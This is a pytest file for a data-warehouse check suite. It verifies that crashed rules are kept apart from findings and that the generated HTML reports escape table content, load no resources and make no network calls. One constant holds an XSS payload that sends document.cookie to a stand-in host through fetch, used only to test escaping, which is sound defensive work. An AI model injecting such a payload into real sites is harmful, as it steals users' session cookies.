"""Crashed rules are told apart from findings; Data Docs say what failed, escape what they show and
load nothing.
"""

import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pyarrow as pa
import pytest

from schemas.errors import UnknownName
from tests.warehouse.checked_tables import RUN, Rows, corrupted, full_context, valid_tables
from warehouse.checks import SUITES, blocking_failures, check_table, index_path
from warehouse.checks.docs import write_page

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = "<script>fetch('//x.test/'+document.cookie)</script><img src=x onerror=alert(1)>&\"'${x}"


class Page(HTMLParser):
    """Tags and text of a page, as a browser would see them."""

    def __init__(self, page: Path) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page.read_text(encoding="utf-8"))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def with_column(table: str, column: str, values: pa.Array) -> pa.Table:
    data = valid_tables()[table]
    return data.set_column(data.schema.get_field_index(column), column, values)


def test_an_expectation_that_crashed_is_an_error_of_the_check_and_blocks():
    lines_as_text = with_column("problems", "source_line", pa.array(["1", "2"]))
    checks = {c.expectation: c for c in check_table("problems", lines_as_text, full_context())}
    crashed = checks["source_line_from_one"]
    assert (crashed.crashed, crashed.success, crashed.blocking) == (True, False, True)
    assert crashed.detail.startswith("the check itself crashed, so the data were not checked: ")
    assert (crashed.unexpected_count, crashed.element_count) == (None, None)
    assert crashed in blocking_failures(checks.values())
    assert [c.expectation for c in checks.values() if not c.success] == ["source_line_from_one"]


def test_a_crashed_warning_blocks_too():
    numbers = with_column("problems", "reference_code", pa.array([1, 2]))
    failed = [c for c in check_table("problems", numbers, full_context()) if not c.success]
    assert [(c.expectation, c.crashed, c.blocking) for c in failed] == [
        ("reference_code_present", True, True)
    ]
    assert "AttributeError" in failed[0].detail


def test_rows_that_cannot_be_read_crash_every_rule_on_them(tmp_path: Path):
    no_steps = valid_tables()["episodes"].drop_columns(["steps"])
    checks = check_table("episodes", no_steps, full_context(docs_dir=tmp_path / "docs"))
    by_grain = {
        frame.grain: {c.crashed for c in checks if c.suite.endswith(frame.grain)}
        for frame in SUITES["episodes"].frames
    }
    assert by_grain == {
        "one row per episode": {True},
        "one row per wanted episode": {False},
        "one row per listed episode": {False},
        "the whole table": {True},
    }
    assert "steps" in checks[0].detail
    assert "steps" in Page(tmp_path / "docs" / RUN / "episodes.html").text


@pytest.mark.slow
def test_a_finding_is_no_crash():
    def spoil(rows: Rows) -> None:
        rows[0]["value"] = 7.0

    failed = [
        c
        for c in check_table("scores", corrupted("scores", spoil), full_context())
        if not c.success
    ]
    assert {c.expectation for c in failed} == {"value_in_range", "metrics_agree"}
    assert not any(c.crashed for c in failed)


def test_a_table_without_a_suite_is_named():
    with pytest.raises(
        UnknownName,
        match=r"unknown table with a suite 'nights'; known: dialogs, problems, episodes",
    ):
        check_table("nights", valid_tables()["scores"], full_context())


@pytest.mark.slow
def test_docs_say_which_rule_failed_where_and_why(tmp_path: Path):
    def spoil(rows: Rows) -> None:
        rows[0]["steps"][0], rows[0]["steps"][1] = rows[0]["steps"][1], rows[0]["steps"][0]

    context = full_context(docs_dir=tmp_path / "docs")
    checks = check_table("episodes", corrupted("episodes", spoil), context)
    assert {c.docs_path for c in checks} == {f"docs/{RUN}/episodes.html"}
    text = Page(tmp_path / "docs" / RUN / "episodes.html").text
    assert "user_before_assistant: an answer needs a question" in text
    assert "turn 1 has an answer before its question" in text
    assert "Failed" in text


@pytest.mark.slow
def test_the_index_lists_every_table_of_the_run(tmp_path: Path):
    docs = tmp_path / "docs"
    assert index_path(docs, RUN) is None
    context = full_context(docs_dir=docs)
    for table, data in valid_tables().items():
        check_table(table, data if table != "scores" else data.slice(1), context)
    assert index_path(docs, RUN) == f"docs/{RUN}/index.html"
    index = Page(tmp_path / f"docs/{RUN}/index.html")
    links = [attrs["href"] for tag, attrs in index.tags if tag == "a"]
    assert links == [f"{table}.html" for table in sorted(SUITES)]
    assert all((docs / RUN / str(link)).is_file() for link in links)
    assert "due_score_present" in index.text
    back = [
        a["href"]
        for tag, a in Page(docs / RUN / "scores.html").tags
        if tag == "a" and "index" in (a.get("href") or "")
    ]
    assert back
    assert set(back) == {"index.html"}


def test_docs_without_a_folder_are_refused():
    with pytest.raises(ValueError, match="scores"):
        write_page("scores", [], full_context())


@pytest.mark.slow
@pytest.mark.parametrize(
    ("table", "column"),
    [
        ("dialogs", "dialog_id"),
        ("problems", "level"),
        ("episodes", "stop_reason"),
        ("test_verdicts", "outcome"),
        ("scores", "metric"),
    ],
)
def test_docs_escape_what_tables_hold(table: str, column: str, tmp_path: Path):
    def spoil(rows: Rows) -> None:
        for row in rows:
            row |= (
                {column: HOSTILE, "row_digest": HOSTILE}
                if "row_digest" in row
                else {column: HOSTILE, "episode_id": HOSTILE}
            )

    context = full_context(docs_dir=tmp_path / "docs", model=f"openai:{HOSTILE}")
    check_table(table, corrupted(table, spoil), context)
    pages = [Page(path) for path in (tmp_path / "docs" / RUN).glob("*.html")]
    assert len(pages) == 2
    assert any("fetch('//x.test/'+document.cookie)" in page.text for page in pages)
    for page in pages:
        assert [
            tag for tag, _ in page.tags if tag in ("script", "img", "iframe", "link", "object")
        ] == []
        assert [name for _, attrs in page.tags for name in attrs if name.startswith("on")] == []


def test_docs_escape_the_message_of_a_crash(tmp_path: Path):
    class Quoting(dict[str, tuple[float, float]]):
        def get(self, *args: object) -> tuple[float, float]:
            raise RuntimeError(HOSTILE)

    context = full_context(
        docs_dir=tmp_path / "docs", metric_ranges=Quoting({"accuracy": (0, 1), "all_held": (0, 1)})
    )
    crashed = [c for c in check_table("scores", valid_tables()["scores"], context) if c.crashed]
    assert [c.expectation for c in crashed] == ["value_in_range"]
    page = Page(tmp_path / "docs" / RUN / "scores.html")
    assert HOSTILE in page.text
    assert "script" not in [tag for tag, _ in page.tags]


def test_docs_load_and_run_nothing(tmp_path: Path):
    check_table("scores", valid_tables()["scores"], full_context(docs_dir=tmp_path / "docs"))
    for name in ("scores.html", "index.html"):
        page = Page(tmp_path / "docs" / RUN / name)
        policy = next(
            a["content"]
            for tag, a in page.tags
            if tag == "meta" and a.get("http-equiv") == "Content-Security-Policy"
        )
        assert policy == "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
        assert (
            page.tags.index(("meta", {"http-equiv": "Content-Security-Policy", "content": policy}))
            <= 3
        )
        assert [a for _, a in page.tags if "src" in a] == []
        assert re.findall(r"@import|url\(", (tmp_path / "docs" / RUN / name).read_text()) == []


@pytest.mark.slow
def test_a_large_finding_makes_a_small_page(tmp_path: Path):
    rows = valid_tables()["scores"].to_pylist() * 500
    data = pa.Table.from_pylist(rows, schema=valid_tables()["scores"].schema)
    checks = check_table("scores", data, full_context(docs_dir=tmp_path / "docs"))
    double = next(c for c in checks if c.expectation == "score_unique")
    assert (double.success, double.unexpected_count) == (False, 4000)
    assert (tmp_path / "docs" / RUN / "scores.html").stat().st_size < 200_000


IN_A_PROCESS_OF_ITS_OWN = """
import socket, sys
def refuse(*args, **kwargs):
    print("CONNECT", args[1:], file=sys.__stdout__)
    raise OSError("no network in this test")
import warehouse.checks as checks
heavy = {"great_expectations", "pandas"} & set(sys.modules)
assert not heavy, heavy
socket.socket.connect = socket.socket.connect_ex = socket.socket.sendto = socket.getaddrinfo = refuse
from pathlib import Path
from tests.warehouse.checked_tables import full_context, valid_tables
for table, data in valid_tables().items():
    assert not checks.blocking_failures(checks.check_table(table, data, full_context(docs_dir=Path(sys.argv[1]))))
print("done")
"""


@pytest.mark.slow
def test_checks_are_imported_lazily_and_say_nothing_to_anybody(tmp_path: Path):
    run = subprocess.run(
        [sys.executable, "-c", IN_A_PROCESS_OF_ITS_OWN, str(tmp_path / "docs")],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert (run.returncode, run.stdout, run.stderr) == (0, "done\n", "")
    assert (tmp_path / "docs" / RUN / "index.html").is_file()
